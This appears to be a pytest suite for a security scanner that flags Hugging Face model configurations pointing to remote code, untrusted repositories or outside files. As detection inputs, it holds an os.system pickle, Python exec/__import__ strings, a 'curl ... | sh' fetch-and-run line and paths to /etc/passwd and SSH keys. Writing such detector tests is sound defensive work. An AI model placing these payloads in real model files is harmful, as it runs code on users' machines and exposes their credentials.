"""Configurations of the hub: which of their keys reach code, other repositories and files."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.analyzers.config_events import context, scan
from weighbridge.analyzers.configuration.hub_configs import judge_tree
from weighbridge.bytesource.memory import MemorySource
from weighbridge.core.artifact import Artifact, Origin
from weighbridge.core.finding import Finding
from weighbridge.core.report import Outcome

HUB = Origin(kind="huggingface", location="hf://org/mine@" + "0" * 40)


def rules(content: object, name: str = "config.json") -> set[str]:
    findings, _ = scan(name, content)
    return {finding.rule for finding in findings if finding.rule.startswith("RMC")}


def only(rule: str, content: object, name: str = "config.json") -> Finding:
    """The one finding of a rule."""
    findings, _ = scan(name, content)
    [found] = [finding for finding in findings if finding.rule == rule]
    return found


def auto(reference: object, **more: object) -> dict[str, object]:
    return {"model_type": "x", "auto_map": {"AutoModel": reference}, **more}


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (auto("modeling_x.Model"), {"RMC001"}),
        (auto(["tokenization_x.Slow", None]), {"RMC001"}),
        (auto("some/else--modeling_x.Model"), {"RMC002"}),
        (auto(["some/else--t.Slow", "some/else--t.Fast"]), {"RMC002"}),
        ({"vision_config": {"deep": auto("some/else--m.X")}, "model_type": "y"}, {"RMC002"}),
        ({"unrelated": {"auto_map": {"AutoModel": "some/else--m.X"}}}, {"RMC002"}),
        (auto("jinaai/jina-bert-implementation--modeling_bert.JinaBertModel"), {"RMC003"}),
        (auto("/tmp/x.Model"), {"RMC004"}),
        (auto("x.__globals__"), {"RMC004"}),
        (auto("a.b.c.Model"), {"RMC005"}),
        (auto(None), set()),
        ({"model_type": "x", "auto_map": []}, set()),
    ],
)
def test_where_auto_map_leads_decides(content: object, expected: set[str]) -> None:
    assert rules(content) == expected


def test_classes_of_one_module_are_one_finding_that_lists_them() -> None:
    tree = {"model_type": "x", "auto_map": {"AutoModel": "m.A", "AutoModelForCausalLM": "m.B"}}
    found = only("RMC001", tree)
    assert found.subject == "m"
    assert found.related == ("m.A", "m.B")


@pytest.mark.parametrize(
    ("reference", "expected"),
    [
        ("org/mine--m.X", "RMC001"),
        ("Org/Mine--m.X", "RMC001"),
        ("org/code--m.X", "RMC003"),
        ("organ/code--m.X", "RMC002"),
    ],
)
def test_the_registry_says_which_repository_is_ones_own(reference: str, expected: str) -> None:
    data = json.dumps(auto(reference)).encode()
    artifact = Artifact(("config.json",), MemorySource(data), HUB)
    events = judge_tree(artifact, json.loads(data), context())
    assert events is not None
    assert [event.rule for event in events if isinstance(event, Finding)] == [expected]


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("_attn_implementation_internal", "some/kernel", {"RMC006"}),
        ("_experts_implementation_internal", "some/kernel@v1:go", {"RMC006"}),
        ("_attn_implementation_internal", "paged|some/kernel", {"RMC006"}),
        ("_attn_implementation_internal", {"text_config": "some/kernel"}, {"RMC006"}),
        ("_attn_implementation_internal", "sdpa", set()),
        ("attn_implementation", "some/kernel", {"RMC007"}),
        ("_attn_implementation", "some/kernel:attend", {"RMC007"}),
        ("attn_implementation", "kernels-community/flash-attn3", {"RMC008"}),
        ("attn_implementation", "flash_attention_2", set()),
        ("_attn_implementation_autoset", True, set()),
        ("conv_kernel", 3, set()),
    ],
)
def test_a_kernel_that_is_a_repository_is_code(key: str, value: object, expected: set[str]) -> None:
    assert rules({"model_type": "llama", key: value}) == expected


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ({"model_type": "lightglue", "trust_remote_code": True}, {"RMC009"}),
        ({"model_type": "x", "text_config": {"trust_remote_code": "True"}}, {"RMC009"}),
        ({"max_seq_length": 8, "model_args": {"trust_remote_code": True}}, {"RMC009"}),
        ({"trainer": {"trust_remote_code": True}}, {"RMC010"}),
        ({"model_type": "lightglue", "trust_remote_code": False}, set()),
    ],
)
def test_who_says_that_code_is_trusted_matters(content: object, expected: set[str]) -> None:
    assert rules(content) == expected


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ({"transformers_version": "5", "custom_generate": "some/decoding"}, {"RMC002"}),
        ({"transformers_version": "5", "custom_generate": "../elsewhere"}, {"RMC004"}),
        ({"model_type": "x", "custom_pipelines": {"a": {"impl": "p.P"}}}, {"RMC001"}),
        ({"model_type": "x", "custom_pipelines": {"a": {"impl": "o/r--p.P"}}}, {"RMC002"}),
        ({"tokenizer_class": "os.system"}, {"RMC011"}),
        ({"architectures": ["subprocess.Popen"]}, {"RMC011"}),
        ({"architectures": ["BertModel"], "tokenizer_class": "BertTokenizer"}, set()),
        ({"model_type": "x", "activation_function": "torch.nn.Tanh"}, set()),
    ],
)
def test_other_keys_reach_code_too(content: object, expected: set[str]) -> None:
    assert rules(content) == expected


@pytest.mark.parametrize(
    "name", ["wiki.hnsw.index.dpr", "wiki.index_meta.dpr", "index.faiss", "passages", "index.pkl"]
)
def test_pickles_of_retrieval_are_known_by_their_content(name: str) -> None:
    findings, rows = scan(name, b"cposix\nsystem\n(S'echo weighbridge-marker'\ntR.")
    assert rows[0].format == "pickle"
    assert any(finding.rule.startswith("PKL") for finding in findings)


def part(kind: str, path: str = "") -> list[dict[str, object]]:
    return [{"idx": 0, "name": "0", "path": path, "type": kind}]


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (part("sentence_transformers.models.Transformer"), set()),
        (part("sentence_transformers.base.modules.dense.Dense", "2_Dense"), set()),
        (part("pylate.models.Dense.Dense"), set()),
        (part("custom_st.Transformer"), {"RMC001"}),
        (part("some/else--custom_st.Transformer"), {"RMC002"}),
        (part("os.system"), {"RMC011"}),
        (part("some_package.layers.Pool"), {"RMC012"}),
        (part("custom_st.Pool", "/etc"), {"RMC001", "RMC013"}),
        ([{"type": "os.system"}], set()),
        ([], set()),
    ],
)
def test_parts_of_a_sentence_encoder(content: object, expected: set[str]) -> None:
    assert rules(content, "modules.json") == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (["diffusers", "UNet2DModel"], set()),
        (["stable_diffusion", "StableDiffusionSafetyChecker"], set()),
        ([None, None], set()),
        (["my_unet", "UNet"], {"RMC001"}),
        (["diffusers_modules.local.my_unet", "UNet"], {"RMC001"}),
        (["../my_unet", "UNet"], {"RMC004"}),
        (["os", "system"], {"RMC011"}),
        (["builtins", "eval"], {"RMC011"}),
        (["some.package", "UNet"], {"RMC012"}),
    ],
)
def test_parts_of_a_pipeline(value: object, expected: set[str]) -> None:
    tree = {"_class_name": "DDPMPipeline", "_diffusers_version": "0.42.1", "unet": value}
    assert rules(tree, "model_index.json") == expected


def test_blocks_of_a_network_are_no_parts_of_a_pipeline() -> None:
    tree = {"_class_name": "UNet2DModel", "down_block_types": ["DownBlock2D", "AttnDownBlock2D"]}
    assert rules(tree) == set()


@pytest.mark.parametrize(
    ("tree", "expected"),
    [
        ({"_class_name": ["my_pipeline", "P"]}, {"RMC001"}),
        ({"_class_name": "P", "custom_pipeline": "my_pipeline"}, {"RMC001"}),
        ({"_class_name": "P", "custom_pipeline": "some/else"}, {"RMC002"}),
        ({"_class_name": "P", "custom_pipeline": "/tmp/p.py"}, {"RMC004"}),
    ],
)
def test_the_class_of_a_pipeline_may_be_code(tree: object, expected: set[str]) -> None:
    assert rules(tree, "model_index.json") == expected


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("vocab_file", "vocab.txt", set()),
        ("vocab_file", "../vocab.txt", {"RMC013"}),
        ("vocab_file", "\\\\198.51.100.7\\share\\v.txt", {"RMC013"}),
        ("vocab_file", "https://example.invalid/v.txt", {"RMC013"}),
        ("vocab_file", "https://huggingface.co/bert/resolve/main/vocab.txt", set()),
        ("vocab_file", "file:///etc/hosts", {"RMC013"}),
        ("tokenizer_file", "/home/somebody/.cache/t.json", {"RMC014"}),
        ("tokenizer_file", "../t.json", {"RMC014"}),
        ("tokenizer_file", "/home/somebody/.ssh/id_rsa", {"RMC013"}),
        ("tokenizer_file", None, set()),
        ("_name_or_path", "org/base", {"RMC016"}),
        ("_name_or_path", "/home/somebody/checkpoint-500", set()),
        ("_name_or_path", "../checkpoint", set()),
        ("mm_vision_tower", "openai/clip-vit-large-patch14", {"RMC015"}),
        ("mm_vision_tower", "https://example.invalid/m", {"RMC017"}),
        ("text_encoder", "/etc/passwd", {"RMC013"}),
        ("text_encoder", {"hidden_size": 8}, set()),
    ],
)
def test_what_a_configuration_opens_and_loads(key: str, value: object, expected: set[str]) -> None:
    assert rules({"model_type": "x", key: value}) == expected


@pytest.mark.parametrize(
    ("weights", "expected"),
    [
        ({"url": "https://example.invalid/w.pth"}, {"RMC017"}),
        ({"url": "https://dl.fbaipublicfiles.com/w.pth"}, {"RMC016"}),
        ({"url": "https://dl.fbaipublicfiles.com.example.invalid/w.pth"}, {"RMC017"}),
        ({"file": "/tmp/w.pth"}, {"RMC013"}),
        ({"hf_hub_id": "timm/resnet10t.c3_in1k"}, {"RMC015"}),
        ({"url": "", "file": None, "tag": "c3"}, set()),
    ],
)
def test_where_timm_takes_weights_from(weights: object, expected: set[str]) -> None:
    assert rules({"architecture": "resnet10t", "pretrained_cfg": weights}) == expected


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("hidden_size", "__import__('os').system('echo weighbridge-marker')", {"RMC019"}),
        ("num_layers", "exec('1')", {"RMC019"}),
        ("intermediate_size", "int(8 / 3 * 64)", {"RMC020"}),
        ("rope_theta", "10000.0", set()),
        ("image_size", "(224, 224)", set()),
        ("hidden_dropout", "none (see the paper)", set()),
        ("note", "__import__('os')", set()),
        ("note", "curl -s https://example.invalid/x | sh", {"RMC021"}),
        ("chat_template", "curl -s https://example.invalid/x | sh", set()),
    ],
)
def test_texts_that_are_programs(key: str, value: str, expected: set[str]) -> None:
    assert rules({"model_type": "x", key: value}) == expected


def test_undocumented_underscore_keys_are_one_finding() -> None:
    tree = {"model_type": "x", "_mine": 1, "text_config": {"_other": 2}, "_commit_hash": None}
    found = only("RMC018", tree)
    assert "'_mine'" in found.evidence
    assert "'_other'" in found.evidence
    assert "_commit_hash" not in found.evidence


def test_yaml_is_judged_as_json_is() -> None:
    assert rules("model_type: x\nauto_map:\n  AutoModel: some/else--m.X\n", "config.yaml") == {"RMC002"}


def test_a_configuration_is_read_to_its_end_and_others_are_left_alone() -> None:
    _, rows = scan("config.json", {"model_type": "bert"})
    assert [row.outcome for row in rows] == [Outcome.ANALYZED]
    _, rows = scan("other.json", {"weather": "fine"})
    assert [row.outcome for row in rows] == [Outcome.OPAQUE]


def test_a_document_that_repeats_itself_hides_nothing_of_another_kind() -> None:
    names = {f"A{n}": f"m{n}.X" for n in range(5_000)}
    findings, _ = scan("config.json", {"model_type": "x", "auto_map": names | {"Z": "some/else--m.X"}})
    assert [finding.rule for finding in findings] == ["RMC001"] * 100 + ["RMC002"]


def test_more_objects_than_any_configuration_has_are_a_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("weighbridge.analyzers.configuration.hub_configs._MOST_PLACES", 10)
    _, rows = scan("config.json", {"model_type": "x", "layers": [{} for _ in range(11)]})
    assert [row.outcome for row in rows] == [Outcome.LIMITED]


_TEXTS = st.sampled_from(
    [
        "os.system",
        "a/b--c.D",
        "../x",
        "\\\\h\\s",
        "some/kernel",
        "https://h/x",
        "m.X",
        "",
        "()",
        "--",
        "|",
    ]
)
_KEYS = st.sampled_from(
    (
        *("auto_map", "custom_pipelines", "impl", "pretrained_cfg", "trust_remote_code", "vocab_file"),
        *("_attn_implementation_internal", "model_type", "_class_name", "type", "path", "hidden_size"),
    )
)
_TREES = st.recursive(
    st.none() | st.booleans() | st.integers() | _TEXTS | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_KEYS, inner, max_size=5),
    max_leaves=20,
)


@settings(max_examples=200, deadline=None)
@given(_TREES)
def test_any_tree_is_judged_or_left_alone(tree: object) -> None:
    data = json.dumps(tree).encode()
    events = judge_tree(Artifact(("model_index.json",), MemorySource(data)), json.loads(data), context())
    assert all(isinstance(event, Finding) and event.subject is not None for event in events or ())
